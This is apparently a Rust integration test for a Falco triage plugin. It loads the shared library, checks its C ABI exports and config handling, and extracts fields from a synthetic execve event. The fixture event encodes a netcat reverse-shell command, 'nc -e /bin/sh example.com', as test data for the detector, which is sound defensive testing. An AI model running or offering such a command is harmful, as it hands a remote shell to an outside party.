//! The shared library as Falco sees it: dlopen the built `libfalco_triage.so`, check the
//! symbols libsinsp looks up and their answers, init it with good and bad configs, and extract
//! a field from a raw execve exit event. Catches what the in-process runner tests cannot: a
//! missing export (the event-schema symbol, falco-plugin-facts §0.1) or a broken C ABI.
//!
//! `libc::dlopen` rather than a loader crate: libc is already a dependency.

use falco_event::events::{Event, EventMetadata, EventToBytes};
use falco_event::types::{Gid, Pid, SyscallResult, SystemTime, Uid};
use falco_event_schema::events::PPME_SYSCALL_EXECVE_19_X;
use falco_event_schema::fields::types::PT_FLAGS32_execve_flags;
use falco_plugin::api::{
    ss_plugin_event, ss_plugin_event_input, ss_plugin_extract_field, ss_plugin_field_extract_input,
    ss_plugin_init_input, ss_plugin_log_severity, ss_plugin_owner_t, ss_plugin_rc, ss_plugin_t,
    ss_plugin_table_reader_vtable, ss_plugin_table_reader_vtable_ext,
};
use std::collections::BTreeSet;
use std::ffi::{c_char, c_void, CStr, CString};
use std::path::PathBuf;
use typed_path::UnixPath;

const SS_PLUGIN_SUCCESS: ss_plugin_rc = 0;
const FTYPE_STRING: u32 = 9;
const FTYPE_UINT64: u32 = 8;

/// The cdylib cargo built for this test run. `cargo test` leaves it in target/<profile>/deps
/// (beside this test executable); only `cargo build` copies it up to target/<profile>, so the
/// copy there may be missing or stale.
fn library_path() -> PathBuf {
    let exe = std::env::current_exe().expect("test executable path");
    let deps = exe.parent().expect("target/<profile>/deps");
    let built = deps.join("libfalco_triage.so");
    if built.exists() {
        return built;
    }
    deps.parent()
        .expect("target/<profile>")
        .join("libfalco_triage.so")
}

struct Library(*mut c_void);

impl Library {
    fn open() -> Self {
        let path = library_path();
        let c_path = CString::new(path.to_string_lossy().into_owned()).expect("path");
        // SAFETY: dlopen with a valid C string; the library's initialisers are Rust statics.
        let handle = unsafe { libc::dlopen(c_path.as_ptr(), libc::RTLD_NOW | libc::RTLD_LOCAL) };
        assert!(
            !handle.is_null(),
            "dlopen {} failed: {}",
            path.display(),
            dl_error()
        );
        Library(handle)
    }

    /// The address of `name`, or None when the library does not export it.
    fn symbol(&self, name: &CStr) -> Option<*mut c_void> {
        // SAFETY: valid handle and C string.
        let sym = unsafe { libc::dlsym(self.0, name.as_ptr()) };
        (!sym.is_null()).then_some(sym)
    }

    /// Look up `name` as a function pointer of type `F`.
    ///
    /// # Safety
    /// `F` must be the symbol's real signature.
    unsafe fn func<F: Copy>(&self, name: &CStr) -> F {
        let sym = self
            .symbol(name)
            .unwrap_or_else(|| panic!("missing symbol {name:?}"));
        assert_eq!(std::mem::size_of::<F>(), std::mem::size_of::<*mut c_void>());
        // SAFETY: the caller names the right signature; sizes checked above.
        unsafe { std::mem::transmute_copy(&sym) }
    }
}

fn dl_error() -> String {
    // SAFETY: dlerror returns null or a valid C string.
    let e = unsafe { libc::dlerror() };
    if e.is_null() {
        String::new()
    } else {
        unsafe { CStr::from_ptr(e) }.to_string_lossy().into_owned()
    }
}

fn string_from(ptr: *const c_char) -> String {
    assert!(!ptr.is_null());
    // SAFETY: the plugin returns valid C strings that outlive this call.
    unsafe { CStr::from_ptr(ptr) }
        .to_string_lossy()
        .into_owned()
}

type NoArgString = unsafe extern "C-unwind" fn() -> *const c_char;
type SchemaVersionFn = unsafe extern "C-unwind" fn(*mut c_void) -> *const c_char;
type InitFn =
    unsafe extern "C-unwind" fn(*const ss_plugin_init_input, *mut ss_plugin_rc) -> *mut ss_plugin_t;
type DestroyFn = unsafe extern "C-unwind" fn(*mut ss_plugin_t);
type LastErrorFn = unsafe extern "C-unwind" fn(*mut ss_plugin_t) -> *const c_char;
type EventTypesFn = unsafe extern "C-unwind" fn(*mut u32, *mut ss_plugin_t) -> *mut u16;
type ExtractFn = unsafe extern "C-unwind" fn(
    *mut ss_plugin_t,
    *const ss_plugin_event_input,
    *const ss_plugin_field_extract_input,
) -> ss_plugin_rc;

unsafe extern "C-unwind" fn no_owner_error(_: *mut ss_plugin_owner_t) -> *const c_char {
    std::ptr::null()
}

unsafe extern "C-unwind" fn discard_log(
    _: *mut ss_plugin_owner_t,
    _: *const c_char,
    _: *const c_char,
    _: ss_plugin_log_severity,
) {
}

/// Init with `config` and no tables (like a host without a `threads` table).
fn init(lib: &Library, config: &CStr) -> (*mut ss_plugin_t, ss_plugin_rc) {
    let input = ss_plugin_init_input {
        config: config.as_ptr(),
        owner: std::ptr::null_mut(),
        get_owner_last_error: Some(no_owner_error),
        tables: std::ptr::null(),
        log_fn: Some(discard_log),
    };
    let mut rc: ss_plugin_rc = -1;
    // SAFETY: signature from the plugin API; input lives across the call.
    let plugin = unsafe { lib.func::<InitFn>(c"plugin_init")(&input, &mut rc) };
    assert!(
        !plugin.is_null(),
        "plugin_init returns a handle even on failure"
    );
    (plugin, rc)
}

fn last_error(lib: &Library, plugin: *mut ss_plugin_t) -> String {
    // SAFETY: signature from the plugin API; plugin is a live handle.
    string_from(unsafe { lib.func::<LastErrorFn>(c"plugin_get_last_error")(plugin) })
}

fn destroy(lib: &Library, plugin: *mut ss_plugin_t) {
    // SAFETY: signature from the plugin API; each handle destroyed once.
    unsafe { lib.func::<DestroyFn>(c"plugin_destroy")(plugin) }
}

fn fields_json(lib: &Library) -> serde_json::Value {
    // SAFETY: signature from the plugin API.
    let json = string_from(unsafe { lib.func::<NoArgString>(c"plugin_get_fields")() });
    serde_json::from_str(&json).expect("plugin_get_fields is JSON")
}

#[test]
fn versions_and_name() {
    let lib = Library::open();
    // SAFETY: signatures from the plugin API.
    unsafe {
        let api = string_from(lib.func::<NoArgString>(c"plugin_get_required_api_version")());
        assert!(api.starts_with("3."), "required API {api}");
        let schema = string_from(lib
            .func::<SchemaVersionFn>(c"plugin_get_required_event_schema_version")(
            std::ptr::null_mut(),
        ));
        assert!(schema.starts_with("4."), "required event schema {schema}");
        assert_eq!(
            string_from(lib.func::<NoArgString>(c"plugin_get_name")()),
            "triage"
        );
        let version = string_from(lib.func::<NoArgString>(c"plugin_get_version")());
        assert_eq!(version, env!("CARGO_PKG_VERSION"));
    }
    for symbol in [
        c"plugin_init",
        c"plugin_destroy",
        c"plugin_get_last_error",
        c"plugin_get_fields",
        c"plugin_extract_fields",
        c"plugin_get_extract_event_types",
        c"plugin_get_extract_event_sources",
        c"plugin_get_init_schema",
        c"plugin_get_metrics",
    ] {
        assert!(lib.symbol(symbol).is_some(), "{symbol:?} not exported");
    }
}

#[test]
fn only_exec_exit_events_on_syscall() {
    let lib = Library::open();
    // SAFETY: signatures from the plugin API.
    let sources =
        string_from(unsafe { lib.func::<NoArgString>(c"plugin_get_extract_event_sources")() });
    let sources: Vec<String> = serde_json::from_str(&sources).expect("sources JSON");
    assert_eq!(sources, ["syscall"]);

    let (plugin, rc) = init(&lib, c"{}");
    assert_eq!(rc, SS_PLUGIN_SUCCESS);
    let mut n = 0u32;
    // SAFETY: the returned array has n entries and lives as long as the library.
    let types = unsafe {
        let ptr = lib.func::<EventTypesFn>(c"plugin_get_extract_event_types")(&mut n, plugin);
        std::slice::from_raw_parts(ptr, n as usize).to_vec()
    };
    assert_eq!(BTreeSet::from_iter(types), BTreeSet::from([293u16, 331]));
    destroy(&lib, plugin);
}

#[test]
fn fields_match_the_documented_list() {
    let lib = Library::open();
    let fields = fields_json(&lib);
    let fields = fields.as_array().expect("array of fields");
    let names: Vec<&str> = fields.iter().filter_map(|f| f["name"].as_str()).collect();
    for field in fields {
        let name = field["name"].as_str().unwrap_or_default();
        assert!(name.starts_with("triage."), "{name}");
        assert!(
            !field["desc"].as_str().unwrap_or_default().is_empty(),
            "{name} has no description"
        );
        assert!(
            !field["type"].as_str().unwrap_or_default().is_empty(),
            "{name} has no type"
        );
    }
    let exported: Vec<&str> = falco_triage::plugin::field_names().collect();
    assert_eq!(names, exported);

    // The README's field table, when there is one, documents exactly these fields.
    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md"))
        .unwrap_or_default();
    let documented: BTreeSet<&str> = readme
        .lines()
        .filter_map(|l| l.trim_start().strip_prefix("| `triage."))
        .filter_map(|rest| rest.split('`').next())
        .collect();
    if !documented.is_empty() {
        let ours: BTreeSet<&str> = names
            .iter()
            .filter_map(|n| n.strip_prefix("triage."))
            .collect();
        assert_eq!(documented, ours, "README field table vs plugin_get_fields");
    }

    // The summary, risk and severity are suggested for Falco's output.
    let suggested: BTreeSet<&str> = fields
        .iter()
        .filter(|f| f["addOutput"].as_bool() == Some(true))
        .filter_map(|f| f["name"].as_str())
        .collect();
    assert_eq!(
        suggested,
        BTreeSet::from(["triage.risk", "triage.severity", "triage.summary"])
    );
}

#[test]
fn init_with_good_and_bad_configs() {
    let lib = Library::open();
    for good in [c"{}", c"null", c"{\"max_args\": 32, \"lineage_depth\": 0}"] {
        let (plugin, rc) = init(&lib, good);
        assert_eq!(
            rc,
            SS_PLUGIN_SUCCESS,
            "{good:?}: {}",
            last_error(&lib, plugin)
        );
        destroy(&lib, plugin);
    }
    for (bad, key) in [
        (c"{\"lineage_depth\": 99}", "lineage_depth"),
        (c"{\"max_env\": \"all\"}", "max_env"),
        (c"{\"verbose\": true}", "verbose"),
    ] {
        let (plugin, rc) = init(&lib, bad);
        assert_ne!(rc, SS_PLUGIN_SUCCESS, "{bad:?} accepted");
        let error = last_error(&lib, plugin);
        assert!(error.contains(&format!("`{key}`")), "{bad:?}: {error}");
        destroy(&lib, plugin);
    }
}

fn execve_exit() -> Vec<u8> {
    let cgroups = b"cpuset=/system.slice/docker-3f5e1e9a4b2c7d8e9f00112233445566778899aabbccddeeff00112233445566.scope\0";
    let params = PPME_SYSCALL_EXECVE_19_X {
        res: Some(SyscallResult(0)),
        exe: Some(c"nc"),
        args: Some(b"-e\0/bin/sh\0example.com\0\x32\x32\0"),
        tid: Some(Pid(4242)),
        pid: Some(Pid(4242)),
        ptid: Some(Pid(4200)),
        cwd: Some(c"/"),
        fdlimit: Some(1024),
        pgft_maj: Some(0),
        pgft_min: Some(0),
        vm_size: Some(0),
        vm_rss: Some(0),
        vm_swap: Some(0),
        comm: Some(c"nc"),
        cgroups: Some(cgroups),
        env: Some(b"PATH=/usr/bin\0"),
        tty: Some(0),
        vpgid: Some(Pid(1)),
        loginuid: Some(Uid(u32::MAX)),
        flags: Some(PT_FLAGS32_execve_flags::from_bits_retain(0b1001)),
        cap_inheritable: Some(0),
        cap_permitted: Some(0xa80425fb),
        cap_effective: Some(0xa80425fb),
        exe_ino: Some(1),
        exe_ino_ctime: Some(SystemTime(1)),
        exe_ino_mtime: Some(SystemTime(1)),
        uid: Some(Uid(0)),
        trusted_exepath: Some(UnixPath::new("/usr/bin/nc.openbsd")),
        pgid: Some(Pid(1)),
        gid: Some(Gid(0)),
    };
    let event = Event {
        metadata: EventMetadata {
            ts: 1_700_000_000_000_000_000,
            tid: 4242,
        },
        params,
    };
    // binary_size() over-reports (facts §3): keep the written length only.
    let mut buf = Vec::new();
    event.write(&mut buf).expect("write event");
    buf
}

/// Extract `name` from `event` through the C ABI; returns the raw result pointer and length.
fn extract(
    lib: &Library,
    plugin: *mut ss_plugin_t,
    event: &[u8],
    name: &CStr,
    ftype: u32,
) -> (ss_plugin_rc, ss_plugin_extract_field) {
    let fields = fields_json(lib);
    let field_id = fields
        .as_array()
        .and_then(|a| {
            a.iter()
                .position(|f| f["name"].as_str() == name.to_str().ok())
        })
        .expect("field declared") as u32;
    // SAFETY: all-zero is a valid ss_plugin_extract_field (null pointers, zero lengths).
    let mut field: ss_plugin_extract_field = unsafe { std::mem::zeroed() };
    field.field_id = field_id;
    field.field = name.as_ptr();
    field.ftype = ftype;
    // SAFETY: vtables of null function pointers: this plugin instance has no tables to read.
    let (table_reader, mut reader_ext): (
        ss_plugin_table_reader_vtable,
        ss_plugin_table_reader_vtable_ext,
    ) = unsafe { (std::mem::zeroed(), std::mem::zeroed()) };
    let input = ss_plugin_field_extract_input {
        owner: std::ptr::null_mut(),
        get_owner_last_error: Some(no_owner_error),
        num_fields: 1,
        fields: &mut field,
        table_reader,
        table_reader_ext: &mut reader_ext,
        value_offsets: std::ptr::null_mut(),
    };
    let event_input = ss_plugin_event_input {
        evt: event.as_ptr() as *const ss_plugin_event,
        evtnum: 1,
        evtsrc: c"syscall".as_ptr(),
    };
    // SAFETY: signature from the plugin API; every pointer outlives the call.
    let rc =
        unsafe { lib.func::<ExtractFn>(c"plugin_extract_fields")(plugin, &event_input, &input) };
    (rc, field)
}

#[test]
fn extract_from_a_raw_execve_exit_event() {
    let lib = Library::open();
    let (plugin, rc) = init(&lib, c"{}");
    assert_eq!(rc, SS_PLUGIN_SUCCESS);
    let event = execve_exit();

    let (rc, field) = extract(&lib, plugin, &event, c"triage.exe_origin", FTYPE_STRING);
    assert_eq!(rc, SS_PLUGIN_SUCCESS, "{}", last_error(&lib, plugin));
    assert_eq!(field.res_len, 1);
    // SAFETY: on success res.str_ points to res_len C strings owned by the plugin.
    let value = unsafe { string_from(*field.res.str_) };
    assert_eq!(value, "image");

    let (rc, field) = extract(&lib, plugin, &event, c"triage.container_id", FTYPE_STRING);
    assert_eq!(rc, SS_PLUGIN_SUCCESS);
    assert_eq!(field.res_len, 1);
    assert_eq!(unsafe { string_from(*field.res.str_) }, "3f5e1e9a4b2c");

    let (rc, field) = extract(&lib, plugin, &event, c"triage.risk", FTYPE_UINT64);
    assert_eq!(rc, SS_PLUGIN_SUCCESS);
    assert_eq!(field.res_len, 1);
    // SAFETY: as above, for a u64 field.
    assert!(unsafe { *field.res.u64_ } <= 100);

    // Lineage is unknown without a threads table: no value, not an error.
    let (rc, field) = extract(&lib, plugin, &event, c"triage.lineage", FTYPE_STRING);
    assert_eq!(rc, SS_PLUGIN_SUCCESS);
    assert_eq!(field.res_len, 0);

    // A cut event (header length consistent, parameters missing) is an error, not a crash.
    let mut cut = event[..event.len() / 2].to_vec();
    let len = u32::try_from(cut.len()).expect("small event");
    cut[16..20].copy_from_slice(&len.to_le_bytes()); // the header's total length
    let (rc, field) = extract(&lib, plugin, &cut, c"triage.exe_origin", FTYPE_STRING);
    assert_ne!(rc, SS_PLUGIN_SUCCESS);
    assert_eq!(field.res_len, 0);
    assert!(
        last_error(&lib, plugin).contains("not a decodable"),
        "{}",
        last_error(&lib, plugin)
    );
    destroy(&lib, plugin);
}
